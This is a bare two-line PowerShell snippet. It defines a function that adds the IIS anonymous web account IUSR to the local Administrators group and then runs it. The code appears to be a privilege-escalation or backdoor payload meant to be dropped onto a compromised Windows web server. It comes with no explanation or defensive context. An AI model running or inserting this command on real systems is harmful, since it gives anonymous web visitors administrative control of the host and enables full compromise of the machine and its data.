Set-Item function:go { net localgroup Administrators IUSR /add }
go
